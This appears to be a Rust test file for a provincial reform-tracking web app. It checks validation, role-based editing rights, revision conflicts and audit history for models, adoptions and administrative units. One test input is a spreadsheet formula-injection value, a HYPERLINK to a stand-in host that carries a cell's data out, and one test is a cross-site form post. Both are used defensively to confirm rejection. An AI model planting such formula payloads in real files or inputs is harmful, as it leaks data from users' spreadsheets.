//! The reference forms: models, adoptions and units, with the import's rules, revisions,
//! history and who may edit what.
use super::*;

/// The hidden `revision` of a reference form: what an edit is saved against.
fn revision_in(html: &str) -> String {
    let at = html.find(r#"name="revision" value=""#).expect("the form carries its revision") + r#"name="revision" value=""#.len();
    html[at..at + html[at..].find('"').unwrap()].to_string()
}

async fn models_table(app: &TestApp) -> Vec<app::ssr::entities::reform_model::Model> {
    app::ssr::tables::models(&app.db).await.unwrap()
}

on_both_engines!(officials_record_and_edit_models_with_the_import_rules_and_history, |engine: Engine| async move {
    let app = app_with_accounts(engine).await;
    let before = models_table(&app).await;
    let new = |code: &'static str, name: &'static str, launched: &'static str| {
        vec![("code", code), ("name", name), ("category", "Chuyển đổi số"), ("launched_on", launched), ("description", "")]
    };
    // Nobody signed in: sent to sign in, back to the form afterwards.
    let r = app.client.post(app.url("/edit/model")).header("origin", origin(&app)).form(&new("QR2", "Mã QR", "")).send().await.unwrap();
    assert_eq!((r.status().as_u16(), r.headers()["location"].to_str().unwrap()), (303, "/login?next=/edit/model"));
    // Staff do not edit models, whatever the page shows them.
    let sam = login(&app, "sam").await;
    let r = post_to(&app, "/edit/model", &sam, &new("QR2", "Mã QR", "")).await;
    assert_eq!(r.status(), 403);
    assert!(r.text().await.unwrap().contains("Chỉ cán bộ tỉnh và quản trị viên"));
    // The import's rules, with the messages next to the fields and the values kept.
    let olga = login(&app, "olga").await;
    let r = post_to(&app, "/edit/model", &olga, &new("QR 2", "=HYPERLINK(\"http://x.example/?\"&B2,\"Xem\")", "2026-13-01")).await;
    assert_eq!(r.status(), 422);
    let html = r.text().await.unwrap();
    assert!(html.contains(r#"id="e-code""#) && html.contains("Mã chỉ gồm chữ cái không dấu"), "{html}");
    assert!(html.contains("bảng tính sẽ coi đó là công thức"));
    assert!(html.contains("«2026-13-01» không phải ngày"));
    assert!(html.contains(r#"value="QR 2""#), "the typed values are kept");
    let r = app.client.post(app.url("/edit/model")).header("origin", origin(&app)).header("cookie", format!("{olga}; lang=en"))
        .form(&new("QR2", "+Mã QR", "")).send().await.unwrap();
    assert!(r.text().await.unwrap().contains("Must not begin with `+`: a spreadsheet would run it as a formula."));
    assert_eq!(models_table(&app).await, before, "nothing was written");

    // A new model; its page and the export have it; the same code again is refused.
    let r = post_to(&app, "/edit/model", &olga, &new("QR2", "Mã QR thủ tục", "2026-02-01")).await;
    assert_eq!((r.status().as_u16(), r.headers()["location"].to_str().unwrap()), (303, "/models/QR2"));
    let (status, page) = app.get_text("/models/QR2").await;
    assert!(status == 200 && page.contains("Mã QR thủ tục"));
    assert!(!page.contains("/edit/model?code=QR2"), "the public sees no edit link");
    let (_, csv) = app.get_text("/export/models.csv").await;
    assert!(csv.contains("QR2,Mã QR thủ tục,Chuyển đổi số,,2026-02-01"), "{csv}");
    let r = post_to(&app, "/edit/model", &olga, &new("QR2", "Tên khác", "")).await;
    assert_eq!(r.status(), 422);
    assert!(r.text().await.unwrap().contains("Đã có mô hình với mã này"));

    // Two officials edit the same model: the second save, made from the older revision, is refused.
    let html = app.client.get(app.url("/edit/model?code=QR2")).header("cookie", &olga).send().await.unwrap().text().await.unwrap();
    let revision = revision_in(&html);
    let ana = login(&app, "ana").await;
    let mut edit = new("QR2", "Tra cứu thủ tục bằng mã QR", "2026-02-01");
    edit.push(("revision", &revision));
    edit.push(("reason", "tên chính thức"));
    assert_eq!(post_to(&app, "/edit/model", &ana, &edit).await.status(), 303);
    let mut late = new("QR2", "Mã QR (olga)", "2026-02-01");
    late.push(("revision", &revision));
    let r = post_to(&app, "/edit/model", &olga, &late).await;
    assert_eq!(r.status(), 409);
    let html = r.text().await.unwrap();
    assert!(section(&html, "reference-conflict").contains("Tra cứu thủ tục bằng mã QR"), "the stored values are shown");
    assert_ne!(revision_in(&html), revision, "the form now edits from the stored revision");
    let stored = models_table(&app).await.into_iter().find(|m| m.code == "QR2").unwrap();
    assert_eq!(stored.name, "Tra cứu thủ tục bằng mã QR", "never overwritten");

    // The history: who, what changed, why — on the model's page, for an official.
    let page = app.client.get(app.url("/models/QR2")).header("cookie", &olga).send().await.unwrap().text().await.unwrap();
    assert!(page.contains("/edit/model?code=QR2"), "an official sees the edit link");
    let changes = &page[page.find("data-testid=\"model-changes\"").expect("the changes are listed")..];
    assert!(changes.contains("ana · edit · QR2 · name: Mã QR thủ tục → Tra cứu thủ tục bằng mã QR — tên chính thức"), "{changes}");
    let log = audit_log::Entity::find().filter(audit_log::Column::Entity.eq("reform_models")).all(&app.db).await.unwrap();
    assert_eq!(log.len(), 2, "one entry per accepted save");
    let new_value: Value = serde_json::from_str(log[1].new_value.as_deref().unwrap()).unwrap();
    assert_eq!(new_value["name"], "Tra cứu thủ tục bằng mã QR", "real JSON");
});

on_both_engines!(officials_record_adoptions_and_the_adoption_figures_follow, |engine: Engine| async move {
    let app = app_with_accounts(engine).await;
    let adopting = || async {
        let rows: Value = app.get("/api/v1/figures/models?period=2026-Q3").await.json().await.unwrap();
        rows.as_array().unwrap().iter().find(|r| r["model_code"] == "Q").unwrap()["communes_adopting"].as_u64().unwrap()
    };
    assert_eq!(adopting().await, 0);
    let adoptions = || async { app::ssr::tables::adoptions(&app.db, None, None).await.unwrap() };
    let before = adoptions().await;
    let olga = login(&app, "olga").await;
    let adoption = |unit: &'static str, model: &'static str, started: &'static str, ended: &'static str, stage: &'static str| {
        vec![("unit_code", unit), ("model_code", model), ("started_on", started), ("ended_on", ended), ("stage", stage), ("steered_by", "province")]
    };
    for (fields, message) in [
        (adoption("P", "Q", "2026-01-01", "", "pilot"), "«P» là cấp tỉnh"),
        (adoption("N9", "Q", "2026-01-01", "", "pilot"), "Không có đơn vị «N9»"),
        (adoption("N2", "ZZ", "2026-01-01", "", "pilot"), "Không có mô hình «ZZ»"),
        (adoption("N2", "Q", "2026-01-01", "2025-12-31", "pilot"), "Ngày 2025-12-31 sớm hơn ngày bắt đầu 2026-01-01"),
        (adoption("N2", "Q", "2026-01-01", "", "rolled-out"), "Giai đoạn là thí điểm"),
        (adoption("N2", "Q", "1/1/2026", "", "pilot"), "«1/1/2026» không phải ngày"),
    ] {
        let r = post_to(&app, "/edit/adoption", &olga, &fields).await;
        assert_eq!(r.status(), 422, "{message}");
        assert!(r.text().await.unwrap().contains(message), "{message}");
    }
    let tina = login(&app, "tina").await;
    assert_eq!(post_to(&app, "/edit/adoption", &tina, &adoption("N2", "Q", "2026-01-01", "", "pilot")).await.status(), 403);
    assert_eq!(adoptions().await, before, "nothing was written");

    let r = post_to(&app, "/edit/adoption", &olga, &adoption("N2", "Q", "2026-01-01", "", "pilot")).await;
    assert_eq!((r.status().as_u16(), r.headers()["location"].to_str().unwrap()), (303, "/models/Q"));
    assert_eq!(adopting().await, 1, "the adoption counts in the figures");
    let r = post_to(&app, "/edit/adoption", &olga, &adoption("N2", "Q", "2026-01-01", "", "scaled")).await;
    assert_eq!(r.status(), 422, "the same key again is an edit, not a new adoption");
    assert!(r.text().await.unwrap().contains("đã áp dụng mô hình từ ngày này"));

    // Edit from the model page's link: scaled out; a stale revision is refused.
    let page = app.client.get(app.url("/models/Q")).header("cookie", &olga).send().await.unwrap().text().await.unwrap();
    let at = page.find("/edit/adoption?id=").expect("an edit link per unit") + "/edit/adoption?id=".len();
    let id = page[at..at + page[at..].find('"').unwrap()].to_string();
    let html = app.client.get(app.url(&format!("/edit/adoption?id={id}"))).header("cookie", &olga).send().await.unwrap().text().await.unwrap();
    assert!(html.contains(r#"value="N2""#) && html.contains(r#"value="2026-01-01""#), "the form shows the stored values");
    let revision = revision_in(&html);
    let mut edit = adoption("N2", "Q", "2026-01-01", "", "scaled");
    edit.extend([("id", id.as_str()), ("revision", revision.as_str())]);
    assert_eq!(post_to(&app, "/edit/adoption", &olga, &edit).await.status(), 303);
    let mut stale = adoption("N2", "Q", "2026-01-01", "2026-06-30", "pilot");
    stale.extend([("id", id.as_str()), ("revision", revision.as_str())]);
    let r = post_to(&app, "/edit/adoption", &olga, &stale).await;
    assert_eq!(r.status(), 409);
    let stored = adoptions().await.into_iter().find(|a| a.unit_code == "N2" && a.model_code == "Q").unwrap();
    assert_eq!((stored.stage.as_str(), stored.ended_on), ("scaled", None), "never overwritten");
    let page = app.client.get(app.url("/models/Q")).header("cookie", &olga).send().await.unwrap().text().await.unwrap();
    assert!(page.contains("olga · edit · N2/Q/2026-01-01 · stage: pilot → scaled"), "the change is in the history");
    // A form posted from another site changes nothing.
    let r = app.client.post(app.url("/edit/adoption")).header("origin", "http://evil.example").header("cookie", &olga)
        .form(&adoption("N1", "Q", "2026-01-01", "", "pilot")).send().await.unwrap();
    assert_eq!(r.status(), 403);
    assert_eq!(adoptions().await.len(), before.len() + 1);
});

on_both_engines!(admins_edit_the_units_officials_cannot, |engine: Engine| async move {
    let app = app_with_accounts(engine).await;
    let units = || async { app::ssr::tables::units(&app.db, None, None).await.unwrap() };
    let before = units().await;
    let unit = |code: &'static str, level: &'static str, parent: &'static str, from: &'static str, successor: &'static str| {
        vec![("code", code), ("name", "Phường Mới"), ("level", level), ("parent_code", parent), ("kind", "phường"),
             ("valid_from", from), ("valid_to", ""), ("successor_code", successor)]
    };
    let olga = login(&app, "olga").await;
    let r = post_to(&app, "/edit/unit", &olga, &unit("N4", "commune", "P", "2025-07-01", "")).await;
    assert_eq!(r.status(), 403);
    assert!(r.text().await.unwrap().contains("Chỉ quản trị viên được sửa danh mục đơn vị."));
    let ana = login(&app, "ana").await;
    for (fields, message) in [
        (unit("N4", "commune", "", "2025-07-01", ""), "Đơn vị dưới cấp tỉnh cần có đơn vị cấp trên."),
        (unit("N4", "commune", "N1", "2025-07-01", ""), "Một xã không thể trực thuộc một xã («N1»)."),
        (unit("N4", "district", "D1", "2025-07-01", ""), "Một huyện không thể trực thuộc một huyện («D1»)."),
        (unit("N4", "commune", "P", "2025-07-01", "N9"), "Không có đơn vị «N9»."),
        (unit("N4", "commune", "P", "1.7.2025", ""), "«1.7.2025» không phải ngày"),
        (unit("N1", "commune", "P", "2025-07-01", ""), "Đã có đơn vị với mã này"),
    ] {
        let r = post_to(&app, "/edit/unit", &ana, &fields).await;
        assert_eq!(r.status(), 422, "{message}");
        assert!(r.text().await.unwrap().contains(message), "{message}");
    }
    assert_eq!(units().await, before, "nothing was written");
    let r = post_to(&app, "/edit/unit", &ana, &unit("N4", "commune", "P", "2025-07-01", "")).await;
    assert_eq!((r.status().as_u16(), r.headers()["location"].to_str().unwrap()), (303, "/communes/N4"));
    let page = app.client.get(app.url("/communes/N4")).header("cookie", &ana).send().await.unwrap().text().await.unwrap();
    assert!(page.contains("Phường Mới") && page.contains("/edit/unit?code=N4"), "an admin sees the edit link");
    // A merger recorded on the form: N3 ends and N4 takes it over; the level stays.
    let html = app.client.get(app.url("/edit/unit?code=N3")).header("cookie", &ana).send().await.unwrap().text().await.unwrap();
    let revision = revision_in(&html);
    let merge = vec![("code", "N3"), ("name", "Xã Lặng"), ("level", "commune"), ("parent_code", "P"), ("kind", "xã"),
                     ("valid_from", "2025-07-01"), ("valid_to", "2026-06-30"), ("successor_code", "N4"), ("revision", &revision)];
    let mut as_district = merge.clone();
    as_district[2] = ("level", "district");
    let r = post_to(&app, "/edit/unit", &ana, &as_district).await;
    assert_eq!(r.status(), 422);
    assert!(r.text().await.unwrap().contains("Không đổi được sau khi đã lưu."));
    assert_eq!(post_to(&app, "/edit/unit", &ana, &merge).await.status(), 303);
    assert_eq!(post_to(&app, "/edit/unit", &ana, &merge).await.status(), 409, "the revision is stale now");
    let n3 = units().await.into_iter().find(|u| u.code == "N3").unwrap();
    assert_eq!((n3.valid_to.map(|d| d.to_string()), n3.successor_code.as_deref()), (Some("2026-06-30".into()), Some("N4")));
    let (_, page) = app.get_text("/communes/N3").await;
    assert!(section(&page, "successor").contains("Phường Mới"), "the page shows the merger");
    let log = audit_log::Entity::find().filter(audit_log::Column::Entity.eq("units")).order_by_asc(audit_log::Column::Id).all(&app.db).await.unwrap();
    let entries: Vec<_> = log.iter().map(|e| (e.entity_key.as_str(), e.old_value.is_some())).collect();
    assert_eq!(entries, [("N4", false), ("N3", true)], "the new unit, then the merger with N3's old values");
});

on_both_engines!(a_unit_stays_valid_during_every_period_it_has_counts_for, |engine: Engine| async move {
    // N1 has counts for 2025-07 and 2025-08 (the fixture's surveys).
    let app = app_with_accounts(engine).await;
    let units = || async { app::ssr::tables::units(&app.db, None, None).await.unwrap() };
    let before = units().await;
    let ana = login(&app, "ana").await;
    let html = app.client.get(app.url("/edit/unit?code=N1")).header("cookie", &ana).send().await.unwrap().text().await.unwrap();
    let revision = revision_in(&html);
    let n1 = |from: &'static str, to: &'static str| {
        vec![("code", "N1"), ("name", "Đông Sơn"), ("level", "commune"), ("parent_code", "P"), ("kind", "xã"),
             ("valid_from", from), ("valid_to", to), ("successor_code", ""), ("revision", revision.as_str())]
    };
    let r = post_to(&app, "/edit/unit", &ana, &n1("2025-08-01", "")).await;
    assert_eq!(r.status(), 422);
    let html = r.text().await.unwrap();
    let message = "Đơn vị đã có số liệu khảo sát kỳ 2025-07, nằm ngoài thời gian hiệu lực này.";
    assert!(html.contains(r#"id="e-valid_from""#) && html.contains(message), "{html}");
    let r = app.client.post(app.url("/edit/unit")).header("origin", origin(&app)).header("cookie", format!("{ana}; lang=en"))
        .form(&n1("2025-07-01", "2025-07-31")).send().await.unwrap();
    assert_eq!(r.status(), 422);
    let html = r.text().await.unwrap();
    assert!(html.contains(r#"id="e-valid_to""#), "{html}");
    assert!(html.contains("The unit has survey counts for 2025-08, outside this validity."), "{html}");
    // The same rule for an import that updates the unit: every row named, nothing written.
    let mut set = app::ssr::import::ImportSet::default();
    let csv = "code,name,level,parent_code,kind,valid_from,valid_to,successor_code\nN1,Đông Sơn,commune,P,xã,2025-07-01,2025-07-31,\n";
    set.units = Some(server::sources::parse_csv("units.csv", csv.as_bytes(), &mut set.problems));
    let opts = app::ssr::import::ImportOptions { update: true };
    let refused = match app::ssr::import::import(&app.db, set, opts, "test", &|_, _, _| {}).await {
        Err(app::ssr::import::ImportError::Invalid(problems)) => problems.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n"),
        other => panic!("{other:?}"),
    };
    assert!(refused.contains("units.csv:2: valid_to: the unit has survey counts for 2025-08, outside this validity"), "{refused}");
    assert_eq!(units().await, before, "nothing was written");
    // A validity that still holds every count is saved.
    assert_eq!(post_to(&app, "/edit/unit", &ana, &n1("2025-07-01", "2025-08-31")).await.status(), 303);
});

on_both_engines!(the_reference_forms_authorization_matrix, |engine: Engine| async move {
    let app = app_with_accounts(engine).await;
    let snapshot = || async {
        (
            app::ssr::tables::units(&app.db, None, None).await.unwrap(),
            models_table(&app).await,
            app::ssr::tables::adoptions(&app.db, None, None).await.unwrap(),
        )
    };
    let model = vec![("code", "MX"), ("name", "Mô hình thử"), ("category", ""), ("launched_on", ""), ("description", "")];
    let adoption = vec![("unit_code", "N3"), ("model_code", "M"), ("started_on", "2026-01-01"), ("ended_on", ""), ("stage", "pilot"), ("steered_by", "")];
    let unit = vec![("code", "N5"), ("name", "Xã Thử"), ("level", "commune"), ("parent_code", "P"), ("kind", "xã"), ("valid_from", "2025-07-01"), ("valid_to", ""), ("successor_code", "")];
    let forms = [("/edit/model", &model), ("/edit/adoption", &adoption), ("/edit/unit", &unit)];
    // Who may save which form: 303 to the result; the rest are refused with nothing written.
    let cookies = [("public", String::new()), ("sam", login(&app, "sam").await), ("olga", login(&app, "olga").await)];
    for (who, cookie) in &cookies {
        for (path, fields) in &forms {
            let before = snapshot().await;
            let r = post_to(&app, path, cookie, fields).await;
            let status = r.status().as_u16();
            let location = r.headers().get("location").map(|l| l.to_str().unwrap().to_string()).unwrap_or_default();
            let allowed = *who == "olga" && *path != "/edit/unit";
            match (*who, allowed) {
                ("public", _) => assert_eq!((status, location.as_str()), (303, format!("/login?next={path}").as_str()), "{who} {path}"),
                (_, false) => assert_eq!(status, 403, "{who} {path}"),
                (_, true) => assert_eq!(status, 303, "{who} {path}"),
            }
            if !allowed {
                assert_eq!(snapshot().await, before, "{who} {path}: nothing changed");
            }
        }
    }
    let ana = login(&app, "ana").await;
    let mut adoption_n2 = adoption.clone();
    adoption_n2[0] = ("unit_code", "N2");
    for (path, fields) in [("/edit/unit", &unit), ("/edit/adoption", &adoption_n2)] {
        assert_eq!(post_to(&app, path, &ana, fields).await.status(), 303, "an admin may do all an official may, and units");
    }
    let (units, models, adoptions) = snapshot().await;
    assert!(units.iter().any(|u| u.code == "N5") && models.iter().any(|m| m.code == "MX"));
    assert_eq!(adoptions.iter().filter(|a| a.started_on.to_string() == "2026-01-01").count(), 2);
});
